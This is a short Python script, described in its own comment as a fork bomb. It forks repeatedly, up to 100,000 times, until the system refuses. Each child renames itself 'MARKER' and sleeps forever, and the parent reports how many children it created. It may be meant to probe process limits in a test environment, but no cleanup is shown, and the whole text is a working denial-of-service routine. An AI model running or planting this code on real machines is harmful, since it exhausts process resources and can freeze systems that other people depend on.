# A fork bomb: fork until the system says no, every child sleeping.
import ctypes as _ctypes, os as _os, time as _time
_children = 0
for _ in range(100_000):
    try:
        _pid = _os.fork()
    except OSError as e:
        print("fork refused after", _children, "children:", e)
        break
    if _pid == 0:
        _ctypes.CDLL(None).prctl(15, b"MARKER", 0, 0, 0)
        while True:
            _time.sleep(1)
    _children += 1
